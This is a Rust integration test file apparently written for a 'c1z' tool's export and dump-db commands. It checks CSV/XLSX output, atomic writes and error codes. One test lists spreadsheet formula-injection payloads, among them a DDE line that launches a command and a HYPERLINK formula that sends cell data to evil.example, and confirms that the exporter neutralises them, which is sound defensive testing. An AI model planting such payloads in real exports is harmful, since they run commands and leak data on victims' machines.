//! `export` and `dump-db`: the rows that the Go tool exports and none less, the same rows in CSV
//! and XLSX, cells that no spreadsheet runs, and files that appear whole or not at all.
#![allow(
    clippy::unwrap_used,
    clippy::indexing_slicing,
    clippy::panic,
    clippy::disallowed_methods,
    reason = "a test that meets unexpected data must stop; it looks at files from outside"
)]

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};
use std::process::{Command, Output};

use c1z::engine::PageRequest;
use c1z::engine::types::{SyncId, SyncRun, SyncType, Timestamp};
use c1z::ops::RecordKind;
use c1z::ops::build::{BuildOptions, PackOptions, RunToWrite, V3Builder};
use c1z_proto::schema::Described;
use c1z_proto::storage::v3;
use calamine::{Data, Reader, Xlsx, open_workbook};
use testkit::golden::{Case, folder, read_file};

fn c1z_in(dir: &Path, args: &[&str]) -> Output {
    Command::new(env!("CARGO_BIN_EXE_c1z"))
        .args(args)
        .current_dir(dir)
        .output()
        .unwrap()
}

fn stderr(output: &Output) -> String {
    String::from_utf8_lossy(&output.stderr).into_owned()
}

/// Runs a command that must succeed and print nothing.
fn quiet(dir: &Path, args: &[&str]) {
    let output = c1z_in(dir, args);
    assert!(output.status.success(), "{args:?}: {}", stderr(&output));
    assert!(
        output.stdout.is_empty() && output.stderr.is_empty(),
        "{args:?}: {output:?}"
    );
}

fn golden(case: &str) -> String {
    let path = Case::named(case).path("v3.indexed_zstd.c1z");
    path.canonicalize().unwrap().to_str().unwrap().to_owned()
}

type Rows = Vec<Vec<String>>;

/// Cells of RFC 4180 records.
fn parse_csv(text: &str) -> Rows {
    let (mut rows, mut row, mut cell) = (Vec::new(), Vec::new(), String::new());
    let (mut quoted, mut chars) = (false, text.chars().peekable());
    while let Some(c) = chars.next() {
        match c {
            '"' if quoted && chars.peek() == Some(&'"') => {
                cell.push('"');
                chars.next();
            }
            '"' => quoted = !quoted,
            ',' if !quoted => row.push(std::mem::take(&mut cell)),
            '\n' if !quoted => {
                row.push(std::mem::take(&mut cell));
                rows.push(std::mem::take(&mut row));
            }
            c => cell.push(c),
        }
    }
    assert!(!quoted && row.is_empty() && cell.is_empty(), "a cut record");
    rows
}

fn csv_of(file: &str) -> Rows {
    let output = c1z_in(Path::new("."), &["export", "csv", "-f", file, "--out", "-"]);
    assert!(output.status.success(), "{}", stderr(&output));
    parse_csv(&String::from_utf8(output.stdout).unwrap())
}

fn xlsx_of(path: &Path) -> BTreeMap<String, Rows> {
    let mut book: Xlsx<_> = open_workbook(path).unwrap();
    let sheets = book.worksheets().into_iter().map(|(name, range)| {
        assert!(
            book.worksheet_formula(&name).unwrap().is_empty(),
            "a formula"
        );
        let text = |cell: &Data| match cell {
            Data::String(text) => text.clone(),
            Data::Empty => String::new(),
            other => panic!("not a text: {other:?}"),
        };
        let rows = range.rows().map(|row| row.iter().map(text).collect());
        (name, rows.collect())
    });
    sheets.collect()
}

/// Without the mark of cells that begin like formulas.
fn meant(rows: &Rows) -> Rows {
    let cell = |cell: &String| cell.strip_prefix('\'').unwrap_or(cell).to_owned();
    rows.iter()
        .map(|row| row.iter().map(cell).collect())
        .collect()
}

/// Rows by kind, as sets.
fn by_kind(rows: &Rows) -> BTreeMap<String, Rows> {
    let mut kinds: BTreeMap<String, Rows> = BTreeMap::new();
    for row in rows {
        kinds.entry(row[0].clone()).or_default().push(row.clone());
    }
    for rows in kinds.values_mut() {
        rows.sort();
    }
    kinds
}

fn stored(name: &str) -> Rows {
    let bytes = read_file(&folder().join("cli").join(name)).unwrap();
    parse_csv(&String::from_utf8(bytes).unwrap())
}

#[test]
fn csv_holds_the_rows_of_the_go_tool() {
    let ours = csv_of(&golden("basic"));
    let heads: Vec<_> = ours.iter().map(|row| row[0].as_str()).collect();
    let mut in_order = heads.clone();
    in_order.dedup();
    assert_eq!(in_order, ["Type", "Identity", "Entitlement", "Grant"]);
    // The names of resources come from the resources, so they are there from v3 files, too.
    assert_eq!(by_kind(&ours), by_kind(&stored("v1.export.csv")));
    let nameless: Rows = ours
        .into_iter()
        .map(|mut row| {
            if row[0] != "Type" {
                row[9].clear();
            }
            row
        })
        .collect();
    assert_eq!(by_kind(&nameless), by_kind(&stored("v3.export.csv")));
}

#[test]
fn v1_files_give_the_same_rows() {
    let v1 = Case::named("basic").path("v1.c1z");
    let rows = csv_of(v1.to_str().unwrap());
    assert_eq!(by_kind(&rows), by_kind(&stored("v1.export.csv")));
    for case in ["realistic", "multi-sync", "slim-grants", "old-schema-2023"] {
        let v1 = Case::named(case).path("v1.c1z");
        let dir = tempfile::tempdir().unwrap();
        let v1 = v1.canonicalize().unwrap();
        let csv = csv_of(v1.to_str().unwrap());
        let xlsx = ["export", "xlsx", "-f", v1.to_str().unwrap()];
        assert!(c1z_in(dir.path(), &xlsx).status.success());
        let sheets = xlsx_of(&dir.path().join("sync.xlsx"));
        assert_eq!(sheets["Sheet1"], meant(&csv), "{case}");
        let packed = Case::named(case).path("v3.indexed_zstd.c1z");
        if packed.exists() {
            let v3 = csv_of(packed.to_str().unwrap());
            assert_eq!(by_kind(&csv), by_kind(&v3), "{case}");
        }
    }
}

#[test]
fn xlsx_holds_the_rows_of_csv_in_their_order() {
    let dir = tempfile::tempdir().unwrap();
    let mut rows_total = 0;
    for case in [
        "basic",
        "realistic",
        "many-ssts",
        "unusual-strings",
        "expandable-expanded",
        "empty-sync",
    ] {
        let file = golden(case);
        let csv = csv_of(&file);
        quiet(dir.path(), &["export", "xlsx", "-f", &file]);
        let sheets = xlsx_of(&dir.path().join("sync.xlsx"));
        assert_eq!(sheets.keys().collect::<Vec<_>>(), ["Sheet1"], "{case}");
        assert_eq!(sheets["Sheet1"], meant(&csv), "{case}");
        rows_total += csv.len();
    }
    println!("{rows_total} rows");
    assert!(rows_total > 100);
}

#[test]
fn rows_are_the_same_in_every_run() {
    let file = golden("realistic");
    assert_eq!(csv_of(&file), csv_of(&file));
    let args = ["export", "xlsx", "--out", "-", "-f", &file];
    let first = c1z_in(Path::new("."), &args).stdout;
    assert!(first.starts_with(b"PK") && first == c1z_in(Path::new("."), &args).stdout);
}

/// A v3 file of records in JSON.
fn build(path: &Path, records: &[(RecordKind, &str)], finished: bool) -> String {
    let id = SyncId::new("2qVyMyUb4B6tF8S1zv0KqZ3xQ1w").unwrap();
    let now = Timestamp {
        seconds: 1_734_761_992,
        nanos: 0,
    };
    let mut run = SyncRun::started(id, SyncType::Full, String::new(), now);
    run.ended_at = finished.then_some(now);
    let build = BuildOptions::default();
    let mut builder = V3Builder::new(path, &build, &PackOptions::default(), finished).unwrap();
    for (kind, json) in records {
        let message = match kind {
            RecordKind::ResourceType => v3::ResourceTypeRecord::MESSAGE,
            RecordKind::Resource => v3::ResourceRecord::MESSAGE,
            RecordKind::Entitlement => v3::EntitlementRecord::MESSAGE,
            RecordKind::Grant => v3::GrantRecord::MESSAGE,
            RecordKind::Asset => v3::AssetRecord::MESSAGE,
        };
        let value = c1z_proto::json::parse(message, json.as_bytes()).unwrap();
        builder.sync().put_value(*kind, &value).unwrap();
    }
    let run = RunToWrite {
        run: &run,
        stored: None,
    };
    builder.finish(Some(run)).unwrap();
    path.to_str().unwrap().to_owned()
}

const USER_TYPE: &str = r#"{"externalId":"user","traits":["USER"]}"#;

fn user(id: &str, inner: &str) -> String {
    let text = |text: &str| serde_json::Value::from(text).to_string();
    format!(
        r#"{{"resourceTypeId":"user","resourceId":{},"displayName":"U","annotations":[{{"@type":"type.googleapis.com/c1.connector.v2.UserTrait",{inner}}}]}}"#,
        text(id)
    )
}

fn grant(entitlement: &str, principal_type: &str, principal: &str) -> String {
    format!(
        r#"{{"externalId":"g","entitlement":{{"resourceTypeId":"app","resourceId":"a","entitlementId":"{entitlement}"}},"principal":{{"resourceTypeId":"{principal_type}","resourceId":"{principal}"}}}}"#
    )
}

#[test]
fn cells_that_begin_like_formulas_are_texts() {
    let dir = tempfile::tempdir().unwrap();
    let nasty = [
        "=cmd|' /C calc'!A0",
        "+1+1",
        "-2+3",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
        "=1,\"2\"\n=3",
        "plain, \"quoted\"",
        "</t></is></c><c><f>1+1</f></c>",
    ];
    let mut records = vec![(RecordKind::ResourceType, USER_TYPE.to_owned())];
    for (n, cell) in nasty.iter().enumerate() {
        let text = serde_json::Value::from(*cell).to_string();
        records.push((
            RecordKind::Resource,
            user(
                &format!("u{n}"),
                &format!(
                    r#""emails":[{{"address":{text},"isPrimary":true}}],"profile":{{"first_name":{text},"last_name":{text},"user_id":{text}}}"#
                ),
            ),
        ));
        records.push((
            RecordKind::Entitlement,
            format!(
                r#"{{"externalId":{text},"resource":{{"resourceTypeId":"app","resourceId":"a"}},"displayName":{text},"description":{text},"slug":{text}}}"#
            ),
        ));
    }
    let records: Vec<_> = records
        .iter()
        .map(|(kind, json)| (*kind, json.as_str()))
        .collect();
    let file = build(&dir.path().join("in.c1z"), &records, true);

    let csv = csv_of(&file);
    quiet(dir.path(), &["export", "xlsx", "-f", &file]);
    let xlsx = &xlsx_of(&dir.path().join("sync.xlsx"))["Sheet1"];
    assert_eq!(csv.len(), 1 + 2 * nasty.len());
    for cell in csv.iter().flatten() {
        assert!(
            !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
            "{cell:?}"
        );
    }
    // A workbook says of every cell that it is a text, so nothing is put in front.
    let unmarked = meant(&csv);
    assert_eq!(*xlsx, unmarked);
    for cell in nasty {
        for columns in [&[1, 2, 3, 5][..], &[6, 7, 10, 11]] {
            let has = |row: &&Vec<String>| columns.iter().all(|&column| row[column] == cell);
            assert!(unmarked.iter().any(|row| has(&row)), "{cell:?}");
        }
    }
}

#[test]
fn no_kind_of_row_ends_early() {
    let dir = tempfile::tempdir().unwrap();
    let (person, robot) = (
        user(
            "u1",
            r#""emails":[{"address":"second@x"},{"address":"first@x","isPrimary":true}],"profile":{"first_name":"F","last_name":"L","user_id":7},"status":{}"#,
        ),
        user("u2", r#""status":{"status":"STATUS_DELETED"}"#),
    );
    let grants = [
        grant("app:a:e", "user", "u1"),
        grant("app:a:e", "user", "nobody"),
        grant("app:a:e", "group", "g"),
        grant("app:a:gone", "user", "u2"),
    ];
    let mut records = vec![
        // Types of users without any, before and behind the one that has some.
        (
            RecordKind::ResourceType,
            r#"{"externalId":"a-user","traits":["USER"]}"#,
        ),
        (RecordKind::ResourceType, USER_TYPE),
        (
            RecordKind::ResourceType,
            r#"{"externalId":"z-user","traits":["GROUP","USER"]}"#,
        ),
        (
            RecordKind::ResourceType,
            r#"{"externalId":"group","traits":["GROUP"]}"#,
        ),
        (RecordKind::Resource, &person),
        (RecordKind::Resource, &robot),
        // No trait: not a person.
        (
            RecordKind::Resource,
            r#"{"resourceTypeId":"user","resourceId":"u3"}"#,
        ),
        (
            RecordKind::Resource,
            r#"{"resourceTypeId":"group","resourceId":"g"}"#,
        ),
        (
            RecordKind::Resource,
            r#"{"resourceTypeId":"app","resourceId":"a","displayName":"App"}"#,
        ),
        (
            RecordKind::Entitlement,
            r#"{"externalId":"app:a:e","resource":{"resourceTypeId":"app","resourceId":"a"},"displayName":"E","slug":"e"}"#,
        ),
    ];
    records.extend(grants.iter().map(|json| (RecordKind::Grant, json.as_str())));
    let file = build(&dir.path().join("in.c1z"), &records, true);
    let expected = [
        [
            "Identity", "L", "F", "", "Unknown", "first@x", "", "", "", "", "", "",
        ],
        [
            "Identity", "", "", "", "Deleted", "", "", "", "", "", "", "",
        ],
        [
            "Entitlement",
            "",
            "",
            "",
            "",
            "",
            "E",
            "app:a:e",
            "app",
            "App",
            "",
            "e",
        ],
        [
            "Grant", "L", "F", "", "", "first@x", "E", "app:a:e", "app", "App", "", "e",
        ],
        [
            "Grant",
            "",
            "",
            "",
            "",
            "",
            "",
            "app:a:gone",
            "app",
            "App",
            "",
            "",
        ],
    ];
    assert_eq!(&csv_of(&file)[1..], expected);
    let output = c1z_in(dir.path(), &["export", "csv", "-f", &file]);
    assert!(
        stderr(&output).contains("grants left out: 1;"),
        "{}",
        stderr(&output)
    );
}

#[test]
fn a_user_trait_that_is_none_is_an_error() {
    let dir = tempfile::tempdir().unwrap();
    // The trait's bytes end in the middle of a field.
    let resource = v3::ResourceRecord {
        resource_type_id: "user".into(),
        resource_id: "u1".into(),
        annotations: vec![c1z_proto::google::protobuf::Any {
            type_url: "type.googleapis.com/c1.connector.v2.UserTrait".into(),
            value: vec![0x0a, 0x05, 0x01],
            ..Default::default()
        }],
        ..Default::default()
    };
    let path = dir.path().join("in.c1z");
    let id = SyncId::new("2qVyMyUb4B6tF8S1zv0KqZ3xQ1w").unwrap();
    let now = Timestamp {
        seconds: 1,
        nanos: 0,
    };
    let mut run = SyncRun::started(id, SyncType::Full, String::new(), now);
    run.ended_at = Some(now);
    let mut builder = V3Builder::new(
        &path,
        &BuildOptions::default(),
        &PackOptions::default(),
        true,
    )
    .unwrap();
    let of_type = c1z_proto::json::parse(v3::ResourceTypeRecord::MESSAGE, USER_TYPE.as_bytes());
    builder
        .sync()
        .put_value(RecordKind::ResourceType, &of_type.unwrap())
        .unwrap();
    let resource = c1z_proto::encode_canonical(&resource);
    builder
        .sync()
        .put_value(RecordKind::Resource, &resource)
        .unwrap();
    builder
        .finish(Some(RunToWrite {
            run: &run,
            stored: None,
        }))
        .unwrap();
    let output = c1z_in(dir.path(), &["export", "csv", "-f", "in.c1z"]);
    assert_eq!(output.status.code(), Some(15), "{}", stderr(&output));
    assert!(stderr(&output).contains("user:u1"), "{}", stderr(&output));
    assert!(!dir.path().join("sync.csv").exists());
}

#[test]
fn a_cell_too_long_for_a_workbook_is_whole_in_csv_and_said_to_be_cut() {
    let dir = tempfile::tempdir().unwrap();
    let long = "x".repeat(2 << 20);
    let entitlement = format!(
        r#"{{"externalId":"e","resource":{{"resourceTypeId":"app","resourceId":"a"}},"description":"{long}"}}"#
    );
    let file = build(
        &dir.path().join("in.c1z"),
        &[(RecordKind::Entitlement, &entitlement)],
        true,
    );
    assert!(csv_of(&file)[1][10] == long);
    let output = c1z_in(dir.path(), &["export", "xlsx", "-f", &file]);
    assert!(output.status.success());
    assert!(
        stderr(&output).contains("cells cut: 1;"),
        "{}",
        stderr(&output)
    );
    let sheets = xlsx_of(&dir.path().join("sync.xlsx"));
    assert_eq!(sheets["Sheet1"][1][10].len(), 32_767);
}

#[test]
fn an_unfinished_sync_is_exported_with_a_warning() {
    let dir = tempfile::tempdir().unwrap();
    for format in ["csv", "xlsx", "ndjson"] {
        let output = c1z_in(dir.path(), &["export", format, "-f", &golden("unfinished")]);
        assert!(output.status.success(), "{format}");
        assert!(
            stderr(&output).contains("is not finished"),
            "{format}: {}",
            stderr(&output)
        );
        assert!(
            dir.path()
                .join(format!("sync.{format}"))
                .metadata()
                .unwrap()
                .len()
                > 500
        );
    }
    let path = dir.path().join("none.c1z");
    let build = BuildOptions::default();
    let builder = V3Builder::new(&path, &build, &PackOptions::default(), false).unwrap();
    builder.finish(None).unwrap();
    let args = ["export", "csv", "-f", "none.c1z", "--out", "-"];
    let output = c1z_in(dir.path(), &args);
    assert_eq!(parse_csv(&String::from_utf8_lossy(&output.stdout)).len(), 1);
    assert!(
        stderr(&output).contains("holds no sync"),
        "{}",
        stderr(&output)
    );
}

#[test]
fn a_failed_export_leaves_the_old_file_and_nothing_else() {
    let dir = tempfile::tempdir().unwrap();
    let damaged = folder()
        .join("corrupt/v3-indexed-flip-frame.c1z")
        .canonicalize()
        .unwrap();
    let damaged = damaged.to_str().unwrap();
    for format in ["csv", "xlsx", "ndjson"] {
        let out = dir.path().join(format!("sync.{format}"));
        std::fs::write(&out, "old").unwrap();
        let output = c1z_in(dir.path(), &["export", format, "-f", damaged]);
        assert_eq!(
            output.status.code(),
            Some(15),
            "{format}: {}",
            stderr(&output)
        );
        assert_eq!(std::fs::read(&out).unwrap(), b"old");
    }
    assert_eq!(std::fs::read_dir(dir.path()).unwrap().count(), 3);
    // A sync that is not there.
    let output = c1z_in(
        dir.path(),
        &["export", "csv", "-f", &golden("basic"), "--sync-id", "nope"],
    );
    assert_eq!(output.status.code(), Some(5));
    // A folder that is not there.
    let output = c1z_in(
        dir.path(),
        &[
            "export",
            "csv",
            "-f",
            &golden("basic"),
            "--out",
            "no/such.csv",
        ],
    );
    assert_eq!(output.status.code(), Some(5), "{}", stderr(&output));
}

#[test]
fn the_file_that_is_read_is_never_replaced() {
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("in.c1z");
    std::fs::copy(golden("basic"), &file).unwrap();
    let before = std::fs::read(&file).unwrap();
    for format in ["csv", "xlsx", "ndjson"] {
        let output = c1z_in(
            dir.path(),
            &["export", format, "-f", "in.c1z", "--out", "./in.c1z"],
        );
        assert_eq!(output.status.code(), Some(3), "{}", stderr(&output));
    }
    assert!(std::fs::read(&file).unwrap() == before);
}

#[test]
fn devices_and_pipes_are_not_replaced() {
    let dir = tempfile::tempdir().unwrap();
    let pipe = dir.path().join("pipe");
    assert!(
        Command::new("mkfifo")
            .arg(&pipe)
            .status()
            .unwrap()
            .success()
    );
    let output = c1z_in(
        dir.path(),
        &["export", "csv", "-f", &golden("basic"), "--out", "pipe"],
    );
    assert_eq!(output.status.code(), Some(3), "{}", stderr(&output));
    assert!(!pipe.metadata().unwrap().is_file());
}

#[test]
fn closed_pipes_end_quietly() {
    for format in ["csv", "xlsx", "ndjson"] {
        let line = format!(
            "'{}' export {format} --out - -f '{}' | head -c 1",
            env!("CARGO_BIN_EXE_c1z"),
            golden("realistic")
        );
        let output = Command::new("sh").args(["-c", &line]).output().unwrap();
        assert!(
            output.status.success() && output.stderr.is_empty(),
            "{format}: {output:?}"
        );
    }
}

#[test]
fn ndjson_is_what_the_library_reads() {
    let dir = tempfile::tempdir().unwrap();
    for case in [
        "basic",
        "sessions-open",
        "graph-blob",
        "legacy-pebble2-basic",
    ] {
        let file = match case {
            "legacy-pebble2-basic" => Case::named(case).path("v3.pebble2.c1z"),
            _ => PathBuf::from(golden(case)),
        };
        let file = file.canonicalize().unwrap();
        let output = c1z_in(
            dir.path(),
            &["export", "ndjson", "-f", file.to_str().unwrap()],
        );
        assert!(output.status.success(), "{case}: {}", stderr(&output));
        let text = std::fs::read(dir.path().join("sync.ndjson")).unwrap();
        let mut reader = c1z::ops::ndjson::Reader::new(text.as_slice()).unwrap();
        while reader.next_item().unwrap().is_some() {}
        let counts = reader.counts();
        let store = c1z::open(&file).unwrap();
        let runs = store.reader().list_sync_runs(&PageRequest::default());
        let run = &runs.unwrap().rows[0];
        let stats = store.reader().stats(Some(&run.id), None).unwrap();
        let found = [counts.resources, counts.entitlements, counts.grants];
        let told = [stats.resources, stats.entitlements, stats.grants];
        assert_eq!(found, told.map(i64::unsigned_abs), "{case}");
        assert!(counts.total() > 5, "{case}");
    }
}

#[test]
fn dump_db_unpacks_once() {
    let dir = tempfile::tempdir().unwrap();
    let v1 = Case::named("basic").path("v1.c1z").canonicalize().unwrap();
    let v1 = v1.to_str().unwrap();
    quiet(dir.path(), &["dump-db", "-f", v1]);
    let database = std::fs::read(dir.path().join("sync.db")).unwrap();
    assert!(database.starts_with(b"SQLite format 3\0"));
    assert!(c1z_in(dir.path(), &["dump-db", "-f", v1, "--out", "-"]).stdout == database);
    let again = c1z_in(dir.path(), &["dump-db", "-f", v1]);
    assert_eq!(again.status.code(), Some(6), "{}", stderr(&again));

    let output = c1z_in(
        dir.path(),
        &["dump-db", "-f", &golden("basic"), "--out", "db"],
    );
    assert_eq!(String::from_utf8_lossy(&output.stdout), "db\n");
    let stats = c1z_in(dir.path(), &["stats", "-f", "db", "-o", "json"]);
    let packed = c1z_in(dir.path(), &["stats", "-f", &golden("basic"), "-o", "json"]);
    assert!(stats.status.success() && stats.stdout == packed.stdout);
    let output = c1z_in(
        dir.path(),
        &["dump-db", "-f", &golden("basic"), "--out", "-"],
    );
    assert_eq!(output.status.code(), Some(3), "{}", stderr(&output));
}
